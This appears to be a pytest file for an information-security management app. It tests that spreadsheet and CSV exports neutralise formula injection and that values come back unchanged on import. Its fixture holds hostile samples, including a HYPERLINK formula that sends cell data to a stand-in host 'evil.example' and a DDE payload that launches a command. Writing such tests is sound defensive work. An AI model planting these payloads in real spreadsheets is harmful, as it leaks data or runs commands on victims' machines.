"""Cells starting with = + - @ are exported so spreadsheet programs never run them, and come
back unchanged on import."""

import pytest
from openpyxl import load_workbook

from isms.core.models import Organisation
from isms.exchange.exporter import export_organisation, write_export
from isms.exchange.importer import import_sheets
from isms.exchange.readers import read_path
from tests.exchange.conftest import as_sheets

pytestmark = pytest.mark.django_db

DANGEROUS = {
    "Engineering": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "Finance": "+1+cmd|' /C calc'!A0",
    "Legal": "-2+3",
    "Sales": "@SUM(A1:A2)",
}


@pytest.fixture
def dangerous_org(organisation):
    rows = [{"name": name, "manager": ""} for name in DANGEROUS]
    import_sheets(organisation, as_sheets({"Departments": rows}))
    for name, payload in DANGEROUS.items():
        rows = [{"ref": f"R-{name}", "title": payload, "likelihood": 1, "impact": 1}]
        import_sheets(organisation, as_sheets({"Risks": [{**rows[0], "treatment": "retain"}]}))
    return organisation


def test_xlsx_cells_are_strings_not_formulas(tmp_path, dangerous_org):
    path = tmp_path / "out.xlsx"
    write_export(export_organisation(dangerous_org), path)
    sheet = load_workbook(path)["Risks"]
    titles = {row[1].value: row[1].data_type for row in sheet.iter_rows(min_row=2)}
    assert set(titles) == set(DANGEROUS.values())
    assert set(titles.values()) == {"s"}


def test_csv_cells_are_quoted_and_round_trip(tmp_path, dangerous_org):
    folder = tmp_path / "csv"
    write_export(export_organisation(dangerous_org), folder)
    text = (folder / "risks.csv").read_text()
    assert "'=HYPERLINK" in text and "'@SUM" in text and "'+1+cmd" in text
    copy = Organisation.objects.create(slug="copy", name="Copy")
    import_sheets(copy, read_path(folder))
    titles = {row["title"] for row in export_organisation(copy)["Risks"]}
    assert titles == set(DANGEROUS.values())
